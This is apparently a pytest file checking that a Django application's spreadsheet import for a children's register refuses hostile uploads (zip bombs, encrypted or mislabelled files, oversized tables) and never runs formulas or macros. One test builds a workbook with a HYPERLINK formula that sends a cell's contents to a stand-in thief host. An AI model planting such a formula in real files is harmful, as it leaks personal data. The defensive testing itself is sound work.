"""A file made badly, or to harm, at the door of the tables of children: words that say what to do, nothing written."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.cast import Cast
from tests.exchange.test_children import HEAD, LEA, START, TOM, read, text, workbook
from tests.exchange.test_schools import _bomb, _far_corner
from tests.forms import hidden_of
from village.audit.models import Entry
from village.exchange.models import Import, ImportedChild

TABLE = ";".join(HEAD)
LINE = ";".join(str(cell) for cell in LEA)

HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "a zip bomb": ("suivi.xlsx", _bomb, "démesuré une fois ouvert : gardez les lignes utiles"),
    "one cell in the last corner": ("suivi.xlsx", _far_corner, "démesuré une fois ouvert"),
    "a password": (
        "suivi.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "protégé par un mot de passe : enregistrez-le sans protection",
    ),
    "a picture that says it is a workbook": ("suivi.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(4000), "n’est pas un tableau"),
    "a damaged workbook": ("suivi.xlsx", b"PK\x03\x04" + bytes(4000), "abîmé : exportez-le de nouveau"),
    "400 columns": ("suivi.csv", f"{TABLE};{';'.join(['x'] * 400)}\n{LINE}".encode(), "colonnes : 300 au plus"),
    "a cell of 100,000 signs": ("suivi.csv", f"{TABLE}\n{LINE}{'é' * 100_000}".encode(), "dépasse 20000 caractères"),
    "a header in another language": (
        "suivi.csv", b"Surname;Given;Born\nPetit;Zoe;2010-01-01\n", "il faut une ligne d’en-tête",
    ),
}  # fmt: skip


def send(cast: Cast, name: str, content: bytes) -> Any:
    client = cast.client("alice")
    sent = {**hidden_of(client.get(START)), "file": SimpleUploadedFile(name, content), "sheet": ""}
    return client.post(START, sent, follow=True)


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_bad_file_is_refused_in_words_and_nothing_is_written(cast: Cast, kind: str) -> None:
    name, content, says = HOSTILE[kind]
    answer = send(cast, name, content() if callable(content) else content)
    assert answer.status_code == 422
    assert says in text(answer)
    assert not Import.objects.exists()
    assert not ImportedChild.objects.exists()
    assert not Entry.objects.filter(action="import:read").exists()
    assert read(cast, TOM).status_code == 200  # the server keeps serving


def test_what_is_too_large_is_stopped_while_it_arrives(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("village.core.uploads.LARGEST", 100_000)
    answer = send(cast, "suivi.xlsx", b"x;" * 1_000_000)
    assert answer.status_code == 422
    assert "au-delà de 50 Mo, il n’est pas reçu" in text(answer)
    assert not Import.objects.exists()


def test_more_lines_than_a_table_may_have_are_refused_in_words(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("village.exchange.operations.children.MOST", 1)
    assert "plus de 1 lignes : partagez-le" in text(send(cast, "suivi.csv", f"{TABLE}\n{LINE}\n{LINE}\n".encode()))
    assert not Import.objects.exists()


def test_a_formula_and_a_macro_are_never_run(cast: Cast) -> None:
    content = io.BytesIO()
    with xlsxwriter.Workbook(content, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEAD)
        sheet.write_row(1, 0, TOM)
        sheet.write_formula(1, 14, '=HYPERLINK("http://voleur.invalid/"&B2)', None, "foot")
    with zipfile.ZipFile(content, "a") as inside:
        inside.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))
    assert send(cast, "suivi.xlsm", content.getvalue()).status_code == 200
    cells = ImportedChild.objects.get().cells
    assert "foot" in cells
    assert "voleur" not in str(cells)


def test_a_workbook_that_says_it_is_a_text_is_read_for_what_it_is(cast: Cast) -> None:
    sent = workbook(TOM)
    assert send(cast, "suivi.csv", sent.read()).status_code == 200
    assert ImportedChild.objects.count() == 1
